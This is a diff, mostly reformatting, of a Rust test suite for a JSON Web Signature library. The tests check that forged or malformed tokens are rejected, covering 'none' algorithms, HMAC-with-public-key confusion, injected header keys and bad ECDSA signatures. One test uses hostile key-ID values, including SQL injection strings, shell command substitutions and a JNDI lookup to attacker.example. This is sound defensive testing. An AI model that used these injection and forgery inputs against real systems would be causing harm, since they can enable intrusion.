@@ -7,14 +7,14 @@ use serde::de::IgnoredAny;
 use serde_json::{Value, json};
 use symbolon::jws::{Unverified, compact};
 use symbolon::{
-    AnyOf, Claims, EcCurve, EcPrivateKey, ErrorKind, HmacAlg, Jwk, JwkSet, JwsAlg, JwsCodec, KeyMaterial,
-    KeyType, Keyring, KidPolicy, Limits, NoCustom, OctKey, OkpCurve, OkpPrivateKey, OkpPublicKey, RsaPublicKey,
-    Signer, Tokens, TokenCodecExt, Validator, Verifier,
+    AnyOf, Claims, EcCurve, EcPrivateKey, ErrorKind, HmacAlg, Jwk, JwkSet, JwsAlg, JwsCodec,
+    KeyMaterial, KeyType, Keyring, KidPolicy, Limits, NoCustom, OctKey, OkpCurve, OkpPrivateKey,
+    OkpPublicKey, RsaPublicKey, Signer, TokenCodecExt, Tokens, Validator, Verifier,
 };
 
 use crate::support::{
-    NOW, at, base64url, damaged, signed_as, header_of, hmac_sha256, hs256, kind, lacks_feature, sha256, signed_input, signer,
-    signers, from_base64url,
+    NOW, at, base64url, damaged, from_base64url, header_of, hmac_sha256, hs256, kind, lacks_feature,
+    sha256, signed_as, signed_input, signer, signers,
 };
 
 const PLAIN: &str = r#"{"sub":"7"}"#;
@@ -22,16 +22,22 @@ const PLAIN: &str = r#"{"sub":"7"}"#;
 /// Reads `token` with `ring` by every door that leads to compact tokens; they must agree.
 fn read(ring: &Keyring, token: &str) -> Result<(), ErrorKind> {
     let codec = JwsCodec::new(ring.clone());
-    let by_codec = codec.decode_at::<IgnoredAny>(token, at(NOW)).map(|_| ()).map_err(|error| error.kind());
+    let by_codec =
+        codec.decode_at::<IgnoredAny>(token, at(NOW)).map(|_| ()).map_err(|error| error.kind());
     let by_bytes = codec.open_at(token, at(NOW)).map(|_| ()).map_err(|error| error.kind());
-    let below = compact::verify(token, ring, &Limits::default(), at(NOW)).map(|_| ()).map_err(|error| error.kind());
+    let below = compact::verify(token, ring, &Limits::default(), at(NOW))
+        .map(|_| ())
+        .map_err(|error| error.kind());
     assert_eq!(by_bytes, below, "{token:.200}");
     match by_codec {
         // Only the codec reads the payload as claims.
         Err(ErrorKind::MalformedClaims) => assert_eq!(below, Ok(()), "{token:.200}"),
         _ => assert_eq!(by_codec, below, "{token:.200}"),
     }
-    let any = AnyOf::new(codec).decode_at::<IgnoredAny>(token, at(NOW)).map(|_| ()).map_err(|error| error.kind());
+    let any = AnyOf::new(codec)
+        .decode_at::<IgnoredAny>(token, at(NOW))
+        .map(|_| ())
+        .map_err(|error| error.kind());
     assert!(any == by_codec || any == Err(ErrorKind::UnknownFormat), "{token:.200}");
     by_codec
 }
@@ -51,7 +57,8 @@ fn judge_claims(claims: impl AsRef<[u8]>) -> Result<(), ErrorKind> {
 fn validate(claims: &str, validator: &Validator) -> Result<(), ErrorKind> {
     let signer = hs256();
     let token = signed_as(header_of(&signer), claims, &signer);
-    let token = JwsCodec::new(signer).decode_at::<IgnoredAny>(&token, at(NOW)).map_err(|error| error.kind())?;
+    let token =
+        JwsCodec::new(signer).decode_at::<IgnoredAny>(&token, at(NOW)).map_err(|error| error.kind())?;
     token.validate_at(validator, at(NOW)).map(|_| ()).map_err(|error| error.kind())
 }
 
@@ -75,8 +82,23 @@ fn rejects_alg_none_in_every_casing_and_spelling() {
     let mut spellings = casings("none");
     assert_eq!(spellings.len(), 16);
     for odd in [
-        "", " ", "none ", " none", "none\\u0000", "\\u006eone", "n\\u006fne", "\\u006e\\u006f\\u006e\\u0065", "n one",
-        "none\\n", "null", "undefined", "false", "0", "NoNe\\t", "non\\u0435", "\\uff4e\\uff4f\\uff4e\\uff45",
+        "",
+        " ",
+        "none ",
+        " none",
+        "none\\u0000",
+        "\\u006eone",
+        "n\\u006fne",
+        "\\u006e\\u006f\\u006e\\u0065",
+        "n one",
+        "none\\n",
+        "null",
+        "undefined",
+        "false",
+        "0",
+        "NoNe\\t",
+        "non\\u0435",
+        "\\uff4e\\uff4f\\uff4e\\uff45",
     ] {
         spellings.push(odd.into());
     }
@@ -87,7 +109,12 @@ fn rejects_alg_none_in_every_casing_and_spelling() {
                 let header = format!(r#"{{"alg":"{spelling}"{kid}}}"#);
                 let signed = signed_as(&header, PLAIN, signer);
                 let input = signed.rsplit_once('.').unwrap().0;
-                for token in [signed.clone(), format!("{input}."), format!("{input}.AA"), format!("{input}.{}", base64url([0; 64]))] {
+                for token in [
+                    signed.clone(),
+                    format!("{input}."),
+                    format!("{input}.AA"),
+                    format!("{input}.{}", base64url([0; 64])),
+                ] {
                     let verdict = read(&Keyring::new(signer.clone()), &token);
                     assert_eq!(verdict, Err(ErrorKind::AlgorithmMismatch), "{token}");
                 }
@@ -99,14 +126,22 @@ fn rejects_alg_none_in_every_casing_and_spelling() {
 #[test]
 fn rejects_alg_of_every_other_json_type() {
     let signer = hs256();
-    for alg in ["null", "true", "false", "0", "1.5", "[]", "[null]", r#"["HS256"]"#, "{}", r#"{"alg":"HS256"}"#] {
-        assert_eq!(judge_header(&signer, format!(r#"{{"alg":{alg}}}"#)), Err(ErrorKind::Malformed), "{alg}");
+    for alg in
+        ["null", "true", "false", "0", "1.5", "[]", "[null]", r#"["HS256"]"#, "{}", r#"{"alg":"HS256"}"#]
+    {
+        assert_eq!(
+            judge_header(&signer, format!(r#"{{"alg":{alg}}}"#)),
+            Err(ErrorKind::Malformed),
+            "{alg}"
+        );
     }
 }
 
 #[test]
 fn rejects_absent_alg() {
-    for header in ["{}", r#"{"typ":"JWT"}"#, r#"{"Alg":"HS256"}"#, r#"{"ALG":"HS256"}"#, r#"{"alg ":"HS256"}"#] {
+    for header in
+        ["{}", r#"{"typ":"JWT"}"#, r#"{"Alg":"HS256"}"#, r#"{"ALG":"HS256"}"#, r#"{"alg ":"HS256"}"#]
+    {
         assert_eq!(judge_header(&hs256(), header), Err(ErrorKind::Malformed), "{header}");
     }
 }
@@ -118,11 +153,19 @@ fn none_has_no_row_and_names_are_exact() {
     }
     for alg in JwsAlg::all() {
         let name = alg.name();
-        for other in [name.to_lowercase(), name.to_uppercase(), format!("{name} "), format!(" {name}"), format!("{name}\0")] {
+        for other in [
+            name.to_lowercase(),
+            name.to_uppercase(),
+            format!("{name} "),
+            format!(" {name}"),
+            format!("{name}\0"),
+        ] {
             assert_eq!(JwsAlg::from_name(&other), (other == name).then_some(alg), "{other}");
         }
     }
-    for name in ["", "RSA1_5", "HS1", "RS1", "MD5", "dir", "A128KW", "A128GCM", "HMAC", "ES256KR", "Ed448"] {
+    for name in
+        ["", "RSA1_5", "HS1", "RS1", "MD5", "dir", "A128KW", "A128GCM", "HMAC", "ES256KR", "Ed448"]
+    {
         assert_eq!(JwsAlg::from_name(name), None, "{name}");
     }
 }
@@ -131,7 +174,13 @@ fn none_has_no_row_and_names_are_exact() {
 fn rejects_alg_in_another_casing_or_with_white_space() {
     for (_, signer) in signers() {
         let name = signer.alg().name();
-        for other in [name.to_lowercase(), format!("{name} "), format!(" {name}"), format!("{name}\\u0000"), name[1..].into()] {
+        for other in [
+            name.to_lowercase(),
+            format!("{name} "),
+            format!(" {name}"),
+            format!("{name}\\u0000"),
+            name[1..].into(),
+        ] {
             let verdict = judge_header(signer, format!(r#"{{"alg":"{other}"}}"#));
             assert_eq!(verdict, Err(ErrorKind::AlgorithmMismatch), "{other}");
         }
@@ -206,7 +255,10 @@ fn only_right_pairs_of_key_and_algorithm_exist() {
                     run += 1;
                     if fits {
                         right += 1;
-                        assert!(matches!(found, None | Some(ErrorKind::MissingFeature)), "{key:?} {alg}: {found:?}");
+                        assert!(
+                            matches!(found, None | Some(ErrorKind::MissingFeature)),
+                            "{key:?} {alg}: {found:?}"
+                        );
                     } else {
                         assert_eq!(found, Some(ErrorKind::KeyMismatch), "{key:?} {alg}");
                     }
@@ -223,7 +275,8 @@ fn a_jwk_that_names_an_algorithm_serves_no_other() {
     for (key, signer) in signers() {
         let jwk = Jwk::from(key.clone()).with_alg(signer.alg()).unwrap();
         for alg in JwsAlg::all() {
-            let verdicts = [kind(Signer::from_jwk_as(&jwk, alg)), kind(Verifier::from_jwk_as(&jwk, alg))];
+            let verdicts =
+                [kind(Signer::from_jwk_as(&jwk, alg)), kind(Verifier::from_jwk_as(&jwk, alg))];
             let expected = (alg != signer.alg()).then_some(ErrorKind::KeyMismatch);
             assert_eq!(verdicts, [expected; 2], "{} as {alg}", signer.alg());
         }
@@ -267,7 +320,10 @@ fn keys_as_text() -> Vec<(String, Vec<u8>)> {
         ("ssh-rsa", "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQC7 user@host"),
         ("ecdsa-sha2", "ecdsa-sha2-nistp256 AAAAE2VjZHNhLXNoYTItbmlzdHAyNTY= user@host"),
         ("sk-ssh", "sk-ssh-ed25519@openssh.com AAAAGnNrLXNzaC1lZDI1NTE5 user@host"),
-        ("OpenSSH private", "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEA\n-----END OPENSSH PRIVATE KEY-----\n"),
+        (
+            "OpenSSH private",
+            "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEA\n-----END OPENSSH PRIVATE KEY-----\n",
+        ),
         ("SSH2", "---- BEGIN SSH2 PUBLIC KEY ----\nAAAA\n---- END SSH2 PUBLIC KEY ----\n"),
         ("PuTTY", "PuTTY-User-Key-File-3: ssh-ed25519\nEncryption: none\n"),
         ("PGP", "-----BEGIN PGP PUBLIC KEY BLOCK-----\n\nmQENBF\n-----END PGP PUBLIC KEY BLOCK-----\n"),
@@ -279,7 +335,8 @@ fn keys_as_text() -> Vec<(String, Vec<u8>)> {
         let mut jwks = vec![private.danger_to_secret_json().as_str().to_owned()];
         jwks.extend(private.to_public().ok().map(|public| public.to_json().unwrap()));
         for jwk in jwks {
-            let pretty = serde_json::to_string_pretty(&serde_json::from_str::<Value>(&jwk).unwrap()).unwrap();
+            let pretty =
+                serde_json::to_string_pretty(&serde_json::from_str::<Value>(&jwk).unwrap()).unwrap();
             texts.push((format!("{private:?} as JWKS"), format!(r#"{{"keys":[{jwk}]}}"#).into()));
             texts.push((format!("{private:?} in lines"), pretty.into()));
             texts.push((format!("{private:?} as JWK"), jwk.into()));
@@ -294,7 +351,9 @@ fn an_oct_key_is_never_a_key_of_another_kind() {
     let mut run = 0;
     for (name, text) in &texts {
         let mut disguised = vec![text.clone()];
-        for before in [&b" "[..], b"\n", b"\r\n\t ", b"\xef\xbb\xbf", b"\xef\xbb\xbf\n ", b"\n\xef\xbb\xbf"] {
+        for before in
+            [&b" "[..], b"\n", b"\r\n\t ", b"\xef\xbb\xbf", b"\xef\xbb\xbf\n ", b"\n\xef\xbb\xbf"]
+        {
             disguised.push([before, text].concat());
             disguised.push([before, text, b"\n"].concat());
         }
@@ -308,7 +367,9 @@ fn an_oct_key_is_never_a_key_of_another_kind() {
             assert_eq!(kind(JwsCodec::hs256(bytes.clone())), due, "{name}");
             let jwk = json!({"kty": "oct", "alg": "HS256", "k": base64url(&bytes)}).to_string();
             assert_eq!(kind(Jwk::from_json(&jwk)), due, "{name}");
-            let set = JwkSet::from_json(json!({"keys": [{"kty": "oct", "alg": "HS256", "k": base64url(&bytes)}]}).to_string());
+            let set = JwkSet::from_json(
+                json!({"keys": [{"kty": "oct", "alg": "HS256", "k": base64url(&bytes)}]}).to_string(),
+            );
             assert!(set.unwrap().keys().is_empty(), "{name}");
         }
     }
@@ -371,15 +432,21 @@ fn a_mac_made_with_a_public_key_is_refused() {
     let mut run = 0;
     for (key, signer) in signers().iter().filter(|(key, _)| key.key_type() != KeyType::Oct) {
         for secret in public_bytes(key) {
-            for (signer, kid) in [(signer.clone(), ""), (signer.clone().with_kid("k").unwrap(), r#","kid":"k""#)] {
-                let input = format!("{}.{}", base64url(format!(r#"{{"alg":"HS256"{kid}}}"#)), base64url(PLAIN));
+            for (signer, kid) in
+                [(signer.clone(), ""), (signer.clone().with_kid("k").unwrap(), r#","kid":"k""#)]
+            {
+                let input =
+                    format!("{}.{}", base64url(format!(r#"{{"alg":"HS256"{kid}}}"#)), base64url(PLAIN));
                 let forged = format!("{input}.{}", base64url(hmac_sha256(&secret, input.as_bytes())));
                 let ring = Keyring::new(signer.clone());
                 assert_eq!(read(&ring, &forged), Err(ErrorKind::AlgorithmMismatch), "{}", signer.alg());
                 // A ring that does hold a secret, under the same name even, gains the attacker nothing.
                 let other = OctKey::new(vec![9; 32]).unwrap().verifier(HmacAlg::Hs256).unwrap();
                 let other = if kid.is_empty() { other } else { other.with_kid("k").unwrap() };
-                assert_eq!(read(&ring.with_reader(other).unwrap(), &forged), Err(ErrorKind::Unauthentic));
+                assert_eq!(
+                    read(&ring.with_reader(other).unwrap(), &forged),
+                    Err(ErrorKind::Unauthentic)
+                );
                 // Were the bytes a secret, the token would be good: HMAC hashes keys beyond 64 bytes.
                 if secret.len() > 64 {
                     let hashed = OctKey::new(sha256(&secret)).unwrap().signer(HmacAlg::Hs256).unwrap();
@@ -398,9 +465,15 @@ fn the_header_may_only_agree_with_the_key() {
     for (_, signer) in signers() {
         let named = signer.clone().with_kid("k").unwrap();
         for alg in JwsAlg::all() {
-            let same = alg == signer.alg() || [alg.name(), signer.alg().name()].iter().all(|name| name.starts_with("Ed"));
+            let same = alg == signer.alg()
+                || [alg.name(), signer.alg().name()].iter().all(|name| name.starts_with("Ed"));
             let due = if same { Ok(()) } else { Err(ErrorKind::AlgorithmMismatch) };
-            assert_eq!(judge_header(signer, format!(r#"{{"alg":"{alg}"}}"#)), due, "{} {alg}", signer.alg());
+            assert_eq!(
+                judge_header(signer, format!(r#"{{"alg":"{alg}"}}"#)),
+                due,
+                "{} {alg}",
+                signer.alg()
+            );
             let header = format!(r#"{{"alg":"{alg}","kid":"k"}}"#);
             assert_eq!(judge_header(&named, header), due, "{} {alg}", signer.alg());
         }
@@ -410,8 +483,11 @@ fn the_header_may_only_agree_with_the_key() {
 #[test]
 fn one_kid_for_several_algorithms_lends_no_key_to_another() {
     // Each signature is true, but the header names the algorithm of another key of the same kid.
-    let all: Vec<Signer> =
-        signers().iter().map(|(_, signer)| signer.clone().with_kid("k").unwrap()).filter(|signer| signer.alg() != JwsAlg::ED25519).collect();
+    let all: Vec<Signer> = signers()
+        .iter()
+        .map(|(_, signer)| signer.clone().with_kid("k").unwrap())
+        .filter(|signer| signer.alg() != JwsAlg::ED25519)
+        .collect();
     let ring = Keyring::read_only().with_readers(all.iter().map(Signer::verifier)).unwrap();
     for signer in &all {
         for other in &all {
@@ -433,7 +509,13 @@ fn rejects_tokens_without_a_signature() {
         let input = token.rsplit_once('.').unwrap().0;
         assert_eq!(read(&ring, &token), Ok(()));
         assert_eq!(read(&ring, &format!("{input}.")), Err(ErrorKind::Unauthentic), "{}", signer.alg());
-        for text in [input.to_owned(), format!("{input}.."), format!("{token}."), format!(".{token}"), format!("{token}.AA")] {
+        for text in [
+            input.to_owned(),
+            format!("{input}.."),
+            format!("{token}."),
+            format!(".{token}"),
+            format!("{token}.AA"),
+        ] {
             assert_eq!(read(&ring, &text), Err(ErrorKind::Malformed), "{text}");
         }
     }
@@ -445,7 +527,17 @@ fn rejects_wrong_numbers_of_parts() {
     let token = signed_as(header_of(&hs256()), PLAIN, &hs256());
     let parts: Vec<&str> = token.split('.').collect();
     let [header, payload, signature] = parts[..] else { panic!() };
-    for text in ["", ".", "..", "...", "....", "a", header, &format!("{header}."), &format!("{header}.{payload}")] {
+    for text in [
+        "",
+        ".",
+        "..",
+        "...",
+        "....",
+        "a",
+        header,
+        &format!("{header}."),
+        &format!("{header}.{payload}"),
+    ] {
         assert_eq!(read(&ring, text), Err(ErrorKind::Malformed), "{text}");
     }
     assert_eq!(read(&ring, &format!(".{payload}.{signature}")), Err(ErrorKind::Malformed));
@@ -476,7 +568,11 @@ fn rejects_tokens_cut_off_or_with_any_bit_flipped() {
 fn a_claim_error_never_hides_a_signature_error() {
     let signer = hs256();
     let other = OctKey::new(vec![8; 32]).unwrap().signer(HmacAlg::Hs256).unwrap();
-    let tokens = Tokens::<NoCustom>::builder(JwsCodec::new(signer.clone())).issuer("us").audience("api").build().unwrap();
+    let tokens = Tokens::<NoCustom>::builder(JwsCodec::new(signer.clone()))
+        .issuer("us")
+        .audience("api")
+        .build()
+        .unwrap();
     for claims in [
         json!({"exp": 1, "iss": "us", "aud": "api"}),
         json!({"exp": 4_000_000_000_i64, "iss": "them", "aud": "api"}),
@@ -510,7 +606,10 @@ fn secrets_shorter_than_the_hash_are_refused_on_every_route() {
             let key = OctKey::new(vec![7; len]).unwrap();
             let material = KeyMaterial::from(key.clone());
             let name = JwsAlg::from(alg).name();
-            let jwk = Jwk::from_json(json!({"kty": "oct", "alg": name, "k": base64url(vec![7; len])}).to_string()).unwrap();
+            let jwk = Jwk::from_json(
+                json!({"kty": "oct", "alg": name, "k": base64url(vec![7; len])}).to_string(),
+            )
+            .unwrap();
             let due = (len < hash).then_some(ErrorKind::WeakKey);
             assert_eq!(kind(key.signer(alg)), due, "{name} {len}");
             assert_eq!(kind(key.verifier(alg)), due, "{name} {len}");
@@ -537,7 +636,11 @@ fn empty_secrets_are_refused_on_every_route() {
     assert_eq!(kind(OctKey::from_base64url("")), due);
     assert_eq!(kind(JwsCodec::hs256(Vec::new())), due);
     assert_eq!(kind(OctKey::generate(0)), due);
-    for jwk in [r#"{"kty":"oct","k":""}"#, r#"{"kty":"oct","alg":"HS256","k":""}"#, r#"{"kty":"oct","k":"","use":"sig"}"#] {
+    for jwk in [
+        r#"{"kty":"oct","k":""}"#,
+        r#"{"kty":"oct","alg":"HS256","k":""}"#,
+        r#"{"kty":"oct","k":"","use":"sig"}"#,
+    ] {
         assert_eq!(kind(Jwk::from_json(jwk)), due);
         let set = JwkSet::from_json(format!(r#"{{"keys":[{jwk}]}}"#)).unwrap();
         assert_eq!(set.skipped()[0].error().kind(), ErrorKind::WeakKey);
@@ -587,7 +690,11 @@ fn ed25519_points_of_small_order_are_refused() {
     ] {
         let bytes: Vec<u8> =
             (0..32).map(|at| u8::from_str_radix(&point[at * 2..at * 2 + 2], 16).unwrap()).collect();
-        assert_eq!(kind(OkpPublicKey::new(OkpCurve::Ed25519, &bytes)), Some(ErrorKind::InvalidKey), "{point}");
+        assert_eq!(
+            kind(OkpPublicKey::new(OkpCurve::Ed25519, &bytes)),
+            Some(ErrorKind::InvalidKey),
+            "{point}"
+        );
         let jwk = json!({"kty": "OKP", "crv": "Ed25519", "x": base64url(&bytes)}).to_string();
         assert_eq!(kind(Jwk::from_json(jwk)), Some(ErrorKind::InvalidKey), "{point}");
     }
@@ -622,9 +729,16 @@ fn a_key_in_the_header_is_inert() {
         header.as_object_mut().unwrap().extend(extra.as_object().unwrap().clone());
         let header = header.to_string();
         let ring = Keyring::new(ours.clone());
-        assert_eq!(read(&ring, &signed_as(&header, PLAIN, &attacker)), Err(ErrorKind::Unauthentic), "{header}");
+        assert_eq!(
+            read(&ring, &signed_as(&header, PLAIN, &attacker)),
+            Err(ErrorKind::Unauthentic),
+            "{header}"
+        );
         assert_eq!(read(&ring, &signed_as(&header, PLAIN, &ours)), Ok(()), "{header}");
-        assert_eq!(read(&Keyring::read_only(), &signed_as(&header, PLAIN, &attacker)), Err(ErrorKind::UnknownKey));
+        assert_eq!(
+            read(&Keyring::read_only(), &signed_as(&header, PLAIN, &attacker)),
+            Err(ErrorKind::UnknownKey)
+        );
     }
 }
 
@@ -632,9 +746,30 @@ fn a_key_in_the_header_is_inert() {
 fn a_kid_is_opaque_and_never_a_path_or_a_query() {
     let ring = Keyring::new(hs256().with_kid("k").unwrap());
     let hostile = [
-        "../../../../dev/null", "/dev/null", "file:///dev/null", "\\\\host\\share", "k/../k", "./k", "k\0", "\0", "k ", " k",
-        "K", "k\n", "' OR '1'='1", "k' UNION SELECT 'secret'; --", "$(id)", "`id`", "${jndi:ldap://attacker.example/a}", "*", "%",
-        "k%00", "http://attacker.example/k", "\u{212a}", "", "null",
+        "../../../../dev/null",
+        "/dev/null",
+        "file:///dev/null",
+        "\\\\host\\share",
+        "k/../k",
+        "./k",
+        "k\0",
+        "\0",
+        "k ",
+        " k",
+        "K",
+        "k\n",
+        "' OR '1'='1",
+        "k' UNION SELECT 'secret'; --",
+        "$(id)",
+        "`id`",
+        "${jndi:ldap://attacker.example/a}",
+        "*",
+        "%",
+        "k%00",
+        "http://attacker.example/k",
+        "\u{212a}",
+        "",
+        "null",
     ];
     for kid in hostile {
         let signer = hs256().with_kid("k").unwrap();
@@ -652,7 +787,11 @@ fn a_kid_is_opaque_and_never_a_path_or_a_query() {
     for kid in hostile.iter().filter(|kid| !kid.is_empty()) {
         let signer = hs256().with_kid(*kid).unwrap();
         let header = json!({"alg": "HS256", "kid": kid}).to_string();
-        assert_eq!(read(&Keyring::new(signer.clone()), &signed_as(header, PLAIN, &signer)), Ok(()), "{kid}");
+        assert_eq!(
+            read(&Keyring::new(signer.clone()), &signed_as(header, PLAIN, &signer)),
+            Ok(()),
+            "{kid}"
+        );
     }
 }
 
@@ -662,7 +801,11 @@ fn a_kid_has_256_bytes_at_most_and_is_a_string() {
         let kid = "k".repeat(len);
         let signer = hs256().with_kid(kid.as_str()).unwrap();
         assert_eq!(judge_header(&signer, header_of(&signer)), Ok(()), "{len}");
-        assert_eq!(judge_header(&hs256().with_kid("k2").unwrap(), header_of(&signer)), Err(ErrorKind::UnknownKey), "{len}");
+        assert_eq!(
+            judge_header(&hs256().with_kid("k2").unwrap(), header_of(&signer)),
+            Err(ErrorKind::UnknownKey),
+            "{len}"
+        );
     }
     for kid in ["k".repeat(257), "k".repeat(5000), "ü".repeat(129)] {
         let header = json!({"alg": "HS256", "kid": kid}).to_string();
@@ -679,7 +822,8 @@ fn a_kid_has_256_bytes_at_most_and_is_a_string() {
 fn a_named_kid_never_falls_back_to_another_named_key() {
     let [a, b] = ["a", "b"].map(|kid| Signer::generate(JwsAlg::ES256).unwrap().with_kid(kid).unwrap());
     for policy in [KidPolicy::Required, KidPolicy::SoleKey, KidPolicy::TryAll] {
-        let ring = Keyring::new(a.clone()).with_reader(b.verifier()).unwrap().with_policy(policy).unwrap();
+        let ring =
+            Keyring::new(a.clone()).with_reader(b.verifier()).unwrap().with_policy(policy).unwrap();
         let token = |kid: &str| signed_as(format!(r#"{{"alg":"ES256","kid":"{kid}"}}"#), PLAIN, &a);
         assert_eq!(read(&ring, &token("a")), Ok(()));
         assert_eq!(read(&ring, &token("b")), Err(ErrorKind::Unauthentic), "{policy:?}");
@@ -690,7 +834,11 @@ fn a_named_kid_never_falls_back_to_another_named_key() {
         assert_eq!(read(&ring, &token("b")), Err(ErrorKind::UnknownKey), "{policy:?}");
         // A key without a name takes no token that names another key of the ring.
         let anonymous = Signer::generate(JwsAlg::ES256).unwrap();
-        let ring = Keyring::new(anonymous.clone()).with_reader(b.verifier()).unwrap().with_policy(policy).unwrap();
+        let ring = Keyring::new(anonymous.clone())
+            .with_reader(b.verifier())
+            .unwrap()
+            .with_policy(policy)
+            .unwrap();
         let token = signed_as(r#"{"alg":"ES256","kid":"b"}"#, PLAIN, &anonymous);
         assert_eq!(read(&ring, &token), Err(ErrorKind::Unauthentic), "{policy:?}");
     }
@@ -751,9 +899,15 @@ fn crit_is_a_list_of_understood_names_that_are_present() {
         (r#""b64":{}"#, Err(Malformed)),
     ] {
         let header = format!(r#"{{"alg":"HS256",{rest}}}"#);
-        let signer = if rest.contains("\"kid\":") { signer.clone().with_kid("k").unwrap() } else { signer.clone() };
+        let signer = if rest.contains("\"kid\":") {
+            signer.clone().with_kid("k").unwrap()
+        } else {
+            signer.clone()
+        };
         assert_eq!(judge_header(&signer, &header), due, "{header}");
-        let peeked = Unverified::peek(&signed_as(&header, PLAIN, &signer)).map(|_| ()).map_err(|error| error.kind());
+        let peeked = Unverified::peek(&signed_as(&header, PLAIN, &signer))
+            .map(|_| ())
+            .map_err(|error| error.kind());
         assert_eq!(peeked, due, "{header}");
     }
 }
@@ -801,7 +955,8 @@ fn json_serializations_are_never_compact_tokens() {
     let token = signed_as(header_of(&hs256()), PLAIN, &hs256());
     let parts: Vec<&str> = token.split('.').collect();
     let flattened = json!({"protected": parts[0], "payload": parts[1], "signature": parts[2]});
-    let general = json!({"payload": parts[1], "signatures": [{"protected": parts[0], "signature": parts[2]}]});
+    let general =
+        json!({"payload": parts[1], "signatures": [{"protected": parts[0], "signature": parts[2]}]});
     let both = json!({"protected": parts[0], "payload": parts[1], "signature": parts[2], "ciphertext": "AA", "iv": "AA"});
     for text in [flattened, general, both, json!(token)] {
         assert!(read(&Keyring::new(hs256()), &text.to_string()).is_err(), "{text}");
@@ -843,7 +998,12 @@ fn a_key_for_encryption_neither_signs_nor_verifies() {
             if let Ok(public) = jwk.to_public() {
                 let kept = jwk.key_use().is_some() || jwk.key_ops().is_some_and(|ops| ops != ["sign"]);
                 if kept {
-                    assert_eq!(kind(Verifier::from_jwk(&public)), verify, "{alg} public {:?}", jwk.key_ops());
+                    assert_eq!(
+                        kind(Verifier::from_jwk(&public)),
+                        verify,
+                        "{alg} public {:?}",
+                        jwk.key_ops()
+                    );
                 }
             }
         }
@@ -851,7 +1011,11 @@ fn a_key_for_encryption_neither_signs_nor_verifies() {
         if let Ok(public) = jwk.to_public() {
             let mut text: Value = serde_json::from_str(&public.to_json().unwrap()).unwrap();
             text["key_ops"] = json!(["sign"]);
-            assert_eq!(kind(Verifier::from_jwk(&Jwk::from_json(text.to_string()).unwrap())), refused, "{alg}");
+            assert_eq!(
+                kind(Verifier::from_jwk(&Jwk::from_json(text.to_string()).unwrap())),
+                refused,
+                "{alg}"
+            );
         }
     }
 }
@@ -879,7 +1043,10 @@ fn order(alg: JwsAlg) -> Vec<u8> {
     let hex = match alg.name() {
         "ES256" => "ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551".to_owned(),
         "ES384" => format!("{}c7634d81f4372ddf581a0db248b0a77aecec196accc52973", "f".repeat(48)),
-        "ES512" => format!("01{}a51868783bf2f966b7fcc0148f709a5d03bb5c9b8899c47aebb6fb71e91386409", "f".repeat(65)),
+        "ES512" => format!(
+            "01{}a51868783bf2f966b7fcc0148f709a5d03bb5c9b8899c47aebb6fb71e91386409",
+            "f".repeat(65)
+        ),
         "ES256K" => "fffffffffffffffffffffffffffffffebaaedce6af48a03bbfd25e8cd0364141".to_owned(),
         other => panic!("{other}"),
     };
@@ -935,11 +1102,19 @@ fn der(r: &[u8], s: &[u8]) -> Vec<u8> {
         [vec![0x02, content.len() as u8], content].concat()
     };
     let body = [integer(r), integer(s)].concat();
-    if body.len() < 0x80 { [vec![0x30, body.len() as u8], body].concat() } else { [vec![0x30, 0x81, body.len() as u8], body].concat() }
+    if body.len() < 0x80 {
+        [vec![0x30, body.len() as u8], body].concat()
+    } else {
+        [vec![0x30, 0x81, body.len() as u8], body].concat()
+    }
 }
 
 fn ecdsa_signers() -> Vec<Signer> {
-    signers().iter().filter(|(key, _)| key.key_type() == KeyType::Ec).map(|(_, signer)| signer.clone()).collect()
+    signers()
+        .iter()
+        .filter(|(key, _)| key.key_type() == KeyType::Ec)
+        .map(|(_, signer)| signer.clone())
+        .collect()
 }
 
 /// Reads a token of `signer`'s with `signature` in the place of its own.
@@ -967,19 +1142,32 @@ fn ecdsa_numbers_outside_1_to_n_are_refused() {
         let mut bad = vec![vec![0; half], n.clone(), add(&n, &one).unwrap(), vec![0xff; half], one];
         bad.extend([subtract(&n, &[vec![0; half - 1], vec![1]].concat())]);
         for number in &bad {
-            for signature in [[r, number].concat(), [number, s].concat(), [&number[..], number].concat()] {
-                assert_eq!(judge_signature(&signer, &input, &signature), Err(ErrorKind::Unauthentic), "{alg}");
+            for signature in [[r, number].concat(), [number, s].concat(), [&number[..], number].concat()]
+            {
+                assert_eq!(
+                    judge_signature(&signer, &input, &signature),
+                    Err(ErrorKind::Unauthentic),
+                    "{alg}"
+                );
             }
         }
         // The same numbers once around, where the field has room for them.
         for (number, first) in [(r, true), (s, false)] {
             if let Some(around) = add(number, &n) {
                 let signature = if first { [&around, s].concat() } else { [r, &around].concat() };
-                assert_eq!(judge_signature(&signer, &input, &signature), Err(ErrorKind::Unauthentic), "{alg}");
+                assert_eq!(
+                    judge_signature(&signer, &input, &signature),
+                    Err(ErrorKind::Unauthentic),
+                    "{alg}"
+                );
             }
         }
         // Halves in the wrong order.
-        assert_eq!(judge_signature(&signer, &input, &[s, r].concat()), Err(ErrorKind::Unauthentic), "{alg}");
+        assert_eq!(
+            judge_signature(&signer, &input, &[s, r].concat()),
+            Err(ErrorKind::Unauthentic),
+            "{alg}"
+        );
     }
 }
 
@@ -991,8 +1179,14 @@ fn ecdsa_signatures_have_their_exact_length_and_are_never_der() {
         let good = signer.sign(input.as_bytes()).unwrap();
         let (r, s) = good.split_at(good.len() / 2);
         let stripped: Vec<u8> = [r, s].concat().into_iter().skip_while(|byte| *byte == 0).collect();
-        let mut wrong = vec![der(r, s), [&good[..], &[0]].concat(), [&[0], &good[..]].concat(), good[1..].to_vec()];
-        wrong.extend([good[..good.len() - 1].to_vec(), r.to_vec(), Vec::new(), [&good[..], &good[..]].concat()]);
+        let mut wrong =
+            vec![der(r, s), [&good[..], &[0]].concat(), [&[0], &good[..]].concat(), good[1..].to_vec()];
+        wrong.extend([
+            good[..good.len() - 1].to_vec(),
+            r.to_vec(),
+            Vec::new(),
+            [&good[..], &good[..]].concat(),
+        ]);
         wrong.push([&[0], r, &[0], s].concat());
         wrong.push([&[4], &good[..]].concat());
         if stripped.len() < good.len() {
@@ -1002,7 +1196,12 @@ fn ecdsa_signatures_have_their_exact_length_and_are_never_der() {
             wrong.push(good[..len].to_vec());
         }
         for signature in wrong {
